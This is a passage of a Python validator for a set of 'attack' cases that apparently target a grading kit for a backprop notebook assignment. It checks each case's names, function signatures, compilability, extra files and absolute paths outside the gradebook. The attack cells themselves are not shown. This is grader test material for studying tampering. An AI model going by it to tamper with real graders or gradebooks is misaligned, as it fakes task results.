            and re.search(r"^(import|from|def) ", node.value, flags=re.MULTILINE)]


def check_attacks(attacks: tuple[Attack, ...] = ATTACKS) -> list[str]:
    """Problems with the attack definitions (empty when all is well)."""
    problems = []
    names = [attack.name for attack in attacks]
    problems += [f"duplicate name {name}" for name in sorted({n for n in names if names.count(n) > 1})]
    for attack in attacks:
        where = attack.name
        if not re.fullmatch(r"[a-z][a-z0-9]*(_[a-z0-9]+)*", attack.name):
            problems.append(f"{where}: name is not snake_case")
        if set(attack.answers) - set(FUNCTIONS):
            problems.append(f"{where}: unknown functions {sorted(set(attack.answers) - set(FUNCTIONS))}")
        if set(attack.wrong) - set(FUNCTIONS) or len(set(attack.wrong)) != len(attack.wrong):
            problems.append(f"{where}: wrong={attack.wrong} must name distinct functions of {FUNCTIONS}")
        if set(attack.wrong) - set(attack.answers):
            problems.append(f"{where}: wrong functions {sorted(set(attack.wrong) - set(attack.answers))} "
                            "keep the reference answer")
        if "\n" in attack.why or not attack.why.endswith(".") or len(attack.why) > 300:
            problems.append(f"{where}: why should be one sentence")
        for function, source in attack.answers.items():
            try:
                tree = ast.parse(source)
                compile(tree, f"<{where}:{function}>", "exec")
            except SyntaxError as error:
                problems.append(f"{where}: the {function} cell does not compile: {error}")
                continue
            defs = [node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == function]
            if len(defs) != 1:
                problems.append(f"{where}: the {function} cell should define {function} once at top level")
                continue
            args = defs[0].args
            params = tuple(a.arg for a in args.posonlyargs + args.args)
            if (params != SIGNATURES[function] or args.vararg or args.kwarg or args.kwonlyargs
                    or args.defaults):
                problems.append(f"{where}: {function} should be exactly "
                                f"def {function}({', '.join(SIGNATURES[function])}), without defaults or *args")
            for path in _absolute_paths(tree) - {KIT_GRADEBOOK} - SCRATCH_PLACES:
                problems.append(f"{where}: the {function} cell names the absolute path {path}")
            for number, code in enumerate(_embedded_code(tree)):
                try:
                    compile(code, f"<{where}:{function}:embedded {number}>", "exec")
                except SyntaxError as error:
                    problems.append(f"{where}: code embedded in the {function} cell does not compile: {error}")
        for name, text in attack.extra_files.items():
            if "/" in name or "\\" in name or name.endswith(".ipynb"):
                problems.append(f"{where}: extra file {name!r} should be a plain name beside the notebook")
            if name.endswith(".py"):
                try:
                    compile(text, f"<{where}:{name}>", "exec")
                except SyntaxError as error:
                    problems.append(f"{where}: extra file {name} does not compile: {error}")
    return problems


def _signatures_match_reference() -> list[str]:
    import inspect

    from solutions import backprop
    return [f"SIGNATURES[{name!r}] differs from solutions.backprop.{name}" for name, params in SIGNATURES.items()
            if tuple(inspect.signature(getattr(backprop, name)).parameters) != params]


if __name__ == "__main__":
    issues = check_attacks() + _signatures_match_reference()
    width = max(len(attack.name) for attack in ATTACKS)
    for attack in ATTACKS:
        extra = f"  + files {', '.join(attack.extra_files)}" if attack.extra_files else ""
        print(f"{attack.name:<{width}}  wrong={', '.join(attack.wrong) or '-'}{extra}")
    print(f"{len(ATTACKS)} attacks")
    for issue in issues:
        print("PROBLEM:", issue)
    raise SystemExit(1 if issues else 0)
